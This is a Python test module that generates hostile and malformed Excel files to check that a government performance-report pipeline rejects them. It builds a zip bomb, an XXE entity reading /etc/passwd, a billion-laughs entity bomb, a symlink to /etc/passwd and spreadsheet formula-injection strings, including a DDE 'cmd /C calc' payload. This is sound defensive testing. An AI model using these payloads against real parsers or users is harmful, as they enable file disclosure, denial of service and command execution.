"""Build hostile and broken input files beside copies of the good ones.

Nothing here is checked in as a binary: every file is made from a shipped template at test
time. Runnable by hand: ``.venv/bin/python -m tests.hostile_files /tmp/hostile`` then
``make report INPUT=/tmp/hostile``.
"""

from __future__ import annotations

import os
import re
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
GOOD = ROOT / "input_xlsx"
SOURCE = GOOD / "Dinas Kesehatan - Capaian Kinerja 2018.xlsx"
BOMB_MB = 200
BIG_MB = int(os.environ.get("SAKIP_HOSTILE_BIG_MB", "512"))  # the unrelated large file
LONG_FOLDER = "Re_ Fwd_ laporan capaian kinerja tahun 2018 dari dinas perhubungan kota binjai"


@dataclass(frozen=True)
class Hostile:
    """One hostile file, the status it must get and the rule that must explain it."""

    name: str  # as the report shows it (bytes that are not UTF-8, controls: \\xNN)
    status: str  # a register status: ditolak, diabaikan, diterima dengan peringatan …
    rule: str  # the issue rule expected on it once ('' for none in particular)
    reason: str  # a phrase the reason must contain
    opd: str = ""  # the OPD whose own rows this file changes ('' for none)


def _rewrite(dst: Path, mutate, src: Path = SOURCE) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = mutate(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
        extra = getattr(mutate, "extra", None)
        if extra:
            extra(zout)


def _indikator_sheet(name: str, data: bytes, change) -> bytes:
    return change(data.decode()).encode() if name == "xl/worksheets/sheet2.xml" else data


def zip_bomb(dst: Path) -> None:
    """A valid template carrying a member that inflates to BOMB_MB of zeros (ratio ~1000)."""

    def keep(name: str, data: bytes) -> bytes:
        return data

    def extra(zout: zipfile.ZipFile) -> None:
        with zout.open("xl/media/image1.bin", "w", force_zip64=True) as fh:
            block = b"\0" * (1 << 20)
            for _ in range(BOMB_MB):
                fh.write(block)

    keep.extra = extra  # type: ignore[attr-defined]
    _rewrite(dst, keep)


def xxe(dst: Path) -> None:
    """An external entity pointing at a local file, used in a cell."""
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

    def change(text: str) -> str:
        text = '<?xml version="1.0" encoding="UTF-8"?>' + doctype + text
        return text.replace("<t>Realisasi Indikator Kinerja", "<t>&xxe;Realisasi", 1)

    _rewrite(dst, lambda n, d: _indikator_sheet(n, d, change))


def entity_bomb(dst: Path) -> None:
    """'Billion laughs': nested entities that would expand to gigabytes."""
    ents = '<!ENTITY a0 "hahahahaha">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )

    def change(text: str) -> str:
        text = f'<?xml version="1.0"?><!DOCTYPE worksheet [{ents}]>' + text
        return text.replace("<t>Realisasi Indikator Kinerja", "<t>&a9;", 1)

    _rewrite(dst, lambda n, d: _indikator_sheet(n, d, change))


def doctype_elsewhere(dst: Path) -> None:
    """An entity declared in a part no reader opens for values (docProps/app.xml)."""
    doctype = '<!DOCTYPE Properties [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

    def change(name: str, data: bytes) -> bytes:
        if name == "docProps/app.xml":
            text = data.decode()
            if text.startswith("<?xml"):
                head, _, rest = text.partition("?>")
                return (head + "?>" + doctype + rest).encode()
            return (doctype + text).encode()
        return data

    _rewrite(dst, change)


def huge_declared(dst: Path) -> None:
    """A sheet declaring a million rows and every column."""

    def change(text: str) -> str:
        return re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', text)

    _rewrite(dst, lambda n, d: _indikator_sheet(n, d, change))


def huge_hidden(dst: Path) -> None:
    """No honest dimension: one cell at XFD1048576 (the reader would allocate ~512 GB)."""

    def change(text: str) -> str:
        text = re.sub(r'<dimension ref="[^"]*"\s*/>', "", text)
        return text.replace(
            "</sheetData>",
            '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>',
        )

    _rewrite(dst, lambda n, d: _indikator_sheet(n, d, change))


def far_cell(dst: Path, src: Path, part: str, ref: str = "XFD1048576") -> None:
    """``src`` with one cell far outside its table in the sheet ``part`` (no dimension said):
    the value reader would allocate every cell of the rectangle up to it."""
    row = re.sub(r"[A-Z]", "", ref)

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        text = re.sub(r'<dimension ref="[^"]*"\s*/>', "", data.decode())
        far = f'<row r="{row}"><c r="{ref}" t="n"><v>1</v></c></row></sheetData>'
        return text.replace("</sheetData>", far).encode()

    _rewrite(dst, change, src)


def macro(dst: Path) -> None:
    """A macro-enabled workbook (.xlsm with a vbaProject part). Never executed."""

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return data.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        return data

    def extra(zout: zipfile.ZipFile) -> None:
        zout.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name = x" * 20)

    def older(name: str, data: bytes) -> bytes:
        if name == "docProps/core.xml":
            return re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2019-01-02T08:00:00Z", data)
        return change(name, data)

    older.extra = extra  # type: ignore[attr-defined]
    _rewrite(dst, older, src=GOOD / "Dinas Sosial - Capaian Kinerja 2018.xlsx")


def encrypted(dst: Path) -> None:
    """A real password-protected workbook (Agile encryption, password 'rahasia')."""
    from msoffcrypto.format.ooxml import OOXMLFile

    with SOURCE.open("rb") as src, dst.open("wb") as out:
        OOXMLFile(src).encrypt("rahasia", out)


def _file_of(folder: Path, kode_opd: str) -> Path:
    from tests.broken_files import _meta

    return _meta(kode_opd, folder)


def _older_copy(src: Path, dst: Path | bytes, when: str = "2019-01-05T08:00:00Z") -> None:
    """A copy of an OPD's file saved earlier than the original (so the original stays used)."""
    from tests.broken_files import _stamp

    data = src.read_bytes()
    with open(dst, "wb") as fh:
        fh.write(data)
    _stamp(Path(os.fsdecode(dst)), when)


@dataclass(frozen=True)
class Formula:
    """A cell formula (as opposed to text that looks like one)."""

    text: str


def _cells(path: Path, changes: dict[tuple[str, str], object]) -> None:
    """Set Indikator cells ``(kode_indikator, column key) -> value`` as an OPD would, keeping
    the file's save time. Text is written as text; ``\\x0b`` and other control characters
    are written the way Excel stores them (``_x000B_``)."""
    from tests.broken_files import COL, _edit, _row, _set

    marks: dict[str, str] = {}

    def change(wb) -> str:
        ws = wb["Indikator"]
        for (code, column), value in changes.items():
            if isinstance(value, str) and any(ord(ch) < 32 and ch not in "\t\n\r" for ch in value):
                mark = f"@@{len(marks)}@@"
                marks[mark] = "".join(
                    f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch
                    for ch in value
                )
                _set(ws, f"{COL[column]}{_row(ws, code)}", mark)
            elif isinstance(value, Formula):
                ws[f"{COL[column]}{_row(ws, code)}"] = value.text  # a live formula
            else:
                _set(ws, f"{COL[column]}{_row(ws, code)}", value)
        return ""

    _edit(path, change)
    if marks:

        def escape(name: str, data: bytes) -> bytes:
            if name.endswith(".xml"):
                for mark, raw in marks.items():
                    data = data.replace(mark.encode(), raw.encode())
            return data

        tmp = path.with_suffix(".tmp")
        _rewrite(tmp, escape, src=path)
        tmp.replace(path)


def _sparse(path: Path, megabytes: int, head: bytes = b"") -> None:
    """A large file that takes no disk space (a hole after ``head``)."""
    with path.open("wb") as fh:
        fh.write(head)
        fh.truncate(megabytes * 1024 * 1024)


INJECTION = {
    "faktor_penghambat": '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
    "faktor_pendorong": "@SUM(1+1)\x07 dukungan\x1b[31m anggaran",
    "tindak_lanjut": "+cmd|' /C calc'!A0",
}


def build_file_system_cases(folder: Path, add) -> None:
    """Names, paths and things in the folder that are not plain files."""
    import socket

    dinkes, dinsos = _file_of(folder, "DINKES"), _file_of(folder, "DINSOS")
    _older_copy(dinkes, folder / "Dinkes \x07\x1b[31m.xlsx")
    add("Dinkes \\x07\\x1b[31m.xlsx", "digantikan", "berkas.digantikan", "")
    _older_copy(dinsos, os.fsencode(folder) + b"/Dinas Sosial \xe9\xff.xlsx")
    add("Dinas Sosial \\xe9\\xff.xlsx", "digantikan", "berkas.digantikan", "")
    dishub = _file_of(folder, "DISHUB")
    deep = folder / LONG_FOLDER / (LONG_FOLDER + " lampiran") / "dokumen masuk dinas"
    deep.mkdir(parents=True)
    name = deep.relative_to(folder) / (
        "Dinas Perhubungan - Capaian Kinerja 2018 perbaikan" + ".xlsx"
    )
    assert len(str(name)) >= 238, len(str(name))
    dishub.rename(folder / name)
    add(name.as_posix(), "diterima", "", "", opd="DISHUB")
    os.symlink(folder / "tidak ada.xlsx", folder / "tautan rusak.xlsx")
    add("tautan rusak.xlsx", "diabaikan", "", "tautan simbolik rusak")
    os.symlink(folder / "putar b.xlsx", folder / "putar a.xlsx")
    os.symlink(folder / "putar a.xlsx", folder / "putar b.xlsx")
    add("putar a.xlsx", "diabaikan", "", "berputar")
    add("putar b.xlsx", "diabaikan", "", "berputar")
    os.symlink(folder, folder / "folder ini")
    add("folder ini", "diabaikan", "", "ke folder")
    os.symlink("/etc/passwd", folder / "Dinkes sandi.xlsx")
    add("Dinkes sandi.xlsx", "diabaikan", "", "ke luar folder")
    os.mkfifo(folder / "pipa.xlsx")
    add("pipa.xlsx", "diabaikan", "", "FIFO")
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(folder / "soket.xlsx"))
    finally:
        sock.close()
    add("soket.xlsx", "diabaikan", "", "soket")
    _sparse(folder / "arsip surat.zip", BIG_MB, b"PK\x03\x04")
    add("arsip surat.zip", "diabaikan", "", "bukan berkas Excel")
    _sparse(folder / "Dinkes besar.xlsx", 40, b"PK\x03\x04")
    add("Dinkes besar.xlsx", "ditolak", "berkas.format", "terlalu besar")


def build_content_cases(folder: Path, add) -> None:
    """OPD text that must reach every output as plain, printable text."""
    kesra = _file_of(folder, "BAG_KESRA")
    _cells(kesra, {("IK05.01", "realisasi_tahunan"): "70\x0b5"})
    add(kesra.name, "diterima, sebagian ditolak", "", "", opd="BAG_KESRA")
    kominfo = _file_of(folder, "DISKOMINFO")
    live = Formula('=HYPERLINK("http://contoh.invalid/","klik di sini")')
    _cells(
        kominfo,
        {
            **{("IK01.04", k): v for k, v in INJECTION.items()},
            ("IK01.05", "faktor_pendorong"): live,
        },
    )
    add(kominfo.name, "diterima dengan peringatan", "", "", opd="DISKOMINFO")


def ods(dst: Path, meta: dict[str, str]) -> None:
    """A minimal OpenDocument spreadsheet holding a ``_meta`` sheet (as LibreOffice saves one)."""

    def cell(value: str) -> str:
        return (
            '<table:table-cell office:value-type="string">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )

    rows = "".join(
        f"<table:table-row>{cell(k)}{cell(v)}</table:table-row>"
        for k, v in [("kunci", "nilai"), *meta.items()]
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        "<office:body><office:spreadsheet>"
        f'<table:table table:name="_meta">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
        'vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
        '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    with zipfile.ZipFile(dst, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)


def _claim(path: Path, kode_opd: str, nama_opd: str) -> None:
    """Change the OPD a file claims in its hidden ``_meta`` sheet (keeping its save time)."""
    from tests.broken_files import _edit

    def change(wb) -> str:
        ws = wb["_meta"]
        for row in ws.iter_rows():
            if row[0].value == "kode_opd":
                row[1].value = kode_opd
            elif row[0].value == "nama_opd":
                row[1].value = nama_opd
        return ""

    _edit(path, change)


def build_identity_cases(folder: Path, add) -> None:
    """Files that claim to be another OPD's, or to come from the future."""
    from tests.broken_files import _stamp

    dinkes, dinsos = _file_of(folder, "DINKES"), _file_of(folder, "DINSOS")
    # DINKES's own file whose _meta was changed to DINSOS (newer than DINSOS's genuine file)
    forged = folder / "Dinas Kesehatan - perbaikan untuk Dinsos.xlsx"
    shutil.copy(dinkes, forged)
    _claim(forged, "DINSOS", "Dinas Sosial")
    _stamp(forged, "2019-03-01T08:00:00Z")
    add(forged.name, "ditolak", "berkas.identitas", "mengaku milik Dinas Sosial")
    # DINSOS's template, filled and sent as DINKES's (the name says Dinas Kesehatan)
    borrowed = folder / "Dinas Kesehatan - Capaian Kinerja 2018 (revisi akhir).xlsx"
    shutil.copy(dinsos, borrowed)
    _stamp(borrowed, "2019-03-02T08:00:00Z")
    add(borrowed.name, "ditolak", "berkas.identitas", "nama berkasnya menyebut Dinas Kesehatan")
    # a save time in the future never pins a file above the OPD's real one
    future = folder / "Dinas Sosial - jam komputer salah.xlsx"
    shutil.copy(dinsos, future)
    _stamp(future, "2099-01-01T00:00:00Z")
    add(future.name, "digantikan", "berkas.waktu_simpan", "tanpa waktu yang sah")
    # an OPD that sent only a .ods: told that it was refused and why, never "belum mengirim"
    meta = {"versi_templat": "x", "kode_pemda": "1275", "kode_opd": "KESBANGPOL", "tahun": "2018"}
    ods(
        add("Kesbangpol - Capaian Kinerja 2018.ods", "ditolak", "berkas.format", "OpenDocument"),
        meta,
    )


def build(folder: Path, with_good: bool = True) -> list[Hostile]:
    """Write the hostile set into ``folder`` (beside copies of the good files)."""
    if folder.exists():
        shutil.rmtree(folder)
    if with_good:
        shutil.copytree(GOOD, folder)
    else:
        folder.mkdir(parents=True)
    out: list[Hostile] = []

    def add(name: str, status: str, rule: str, reason: str, opd: str = "") -> Path:
        out.append(Hostile(name, status, rule, reason, opd))
        return folder / name

    zip_bomb(add("Dinas Kesehatan - bom zip.xlsx", "ditolak", "berkas.format", "zip bomb"))
    (add("Laporan Dinsos.xlsx", "ditolak", "berkas.format", "PDF")).write_bytes(
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
    )
    encrypted(add("Dinkes terkunci.xlsx", "ditolak", "berkas.format", "kata sandi"))
    # An older macro-enabled draft of an OPD that also sent its proper file: it is read (values
    # only), warned about, and superseded by the newer .xlsx.
    macro(add("Dinas Sosial - makro.xlsm", "digantikan", "berkas.makro", ""))
    xxe(add("Dinkes XXE.xlsx", "ditolak", "berkas.format", "DOCTYPE/ENTITY"))
    entity_bomb(add("Dinkes entitas.xlsx", "ditolak", "berkas.format", "DOCTYPE/ENTITY"))
    doctype_elsewhere(add("Dinkes properti.xlsx", "ditolak", "berkas.format", "docProps/app.xml"))
    huge_declared(
        add("Dinkes sejuta baris.xlsx", "ditolak", "berkas.format", "ukuran tidak wajar")
    )
    huge_hidden(
        add("Dinkes sel terjauh.xlsx", "ditolak", "berkas.pembaca_gagal", "berhenti mendadak")
    )
    (
        add("~$Dinas Kesehatan - Capaian Kinerja 2018.xlsx", "diabaikan", "", "kunci sementara")
    ).write_bytes(b"\x06user  " + b"\0" * 150)
    (
        add(".~lock.Dinas Kesehatan - Capaian Kinerja 2018.xlsx#", "diabaikan", "", "tersembunyi")
    ).write_text("user,host,2019\n")
    (add("kosong.xlsx", "ditolak", "berkas.format", "0 byte")).write_bytes(b"")
    (add("acak.xlsx", "ditolak", "berkas.format", "bukan berkas Excel")).write_bytes(
        os.urandom(4096)
    )
    data = SOURCE.read_bytes()
    (add("Dinkes terpotong.xlsx", "ditolak", "berkas.format", "rusak atau terpotong")).write_bytes(
        data[: len(data) // 2]
    )
    (add("Dinkes lama.xlsx", "ditolak", "berkas.format", ".xls")).write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le")
    )
    (add("scan surat.pdf", "diabaikan", "", "bukan berkas Excel")).write_bytes(b"%PDF-1.4")
    if with_good:
        build_file_system_cases(folder, add)
        build_content_cases(folder, add)
        build_identity_cases(folder, add)
    return out


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    for h in build(target):
        print(f"{h.name}: {h.status} ({h.rule or 'diabaikan'})")
